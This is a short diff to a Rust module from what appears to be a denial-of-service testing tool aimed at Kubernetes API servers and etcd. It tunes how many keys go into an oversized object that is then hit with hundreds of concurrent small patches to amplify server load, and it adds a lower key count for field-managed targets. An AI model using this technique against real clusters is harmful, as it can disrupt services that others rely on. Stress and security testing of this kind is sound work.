@@ -13,8 +13,9 @@ use crate::attack::{
     report::Told,
 };
 
-/// Keys of the object that is patched: with their values just below what etcd takes.
+/// Keys of the object that is patched: with their values just below what etcd takes; and where a kube-apiserver notes besides who manages each of them.
 const KEYS: usize = 80_000;
+const KEYS_OF_FED: usize = 45_000;
 /// Patches under way on one connection.
 const PATCHES: usize = 250;
 /// Unread GETs of a large object, and unread lists of all of them from etcd.
@@ -39,7 +40,7 @@ async fn write(target: &Target, method: &str, path: &str, body: String) -> Resul
 /// Patches of a few bytes to an object whose tree has a hundred times its bytes, as many as a connection has streams.
 pub(super) async fn patches(target: &Target, told: &mut Told) -> Result<()> {
     let end = Instant::now() + target.time;
-    let keys: Vec<String> = (0..KEYS).map(|n| format!(r#""k{n:05}":"x""#)).collect();
+    let keys: Vec<String> = (0..if target.is_fed { KEYS_OF_FED } else { KEYS }).map(|n| format!(r#""k{n:05}":"x""#)).collect();
     write(target, "POST", PATH, format!(r#"{{"metadata":{{"name":"wide"}},"data":{{{}}}}}"#, keys.join(","))).await?;
     let raw = Raw::open(&target.plain, 0, 1 << 30, Reads::Everything).await?;
     let mut sent = 0;
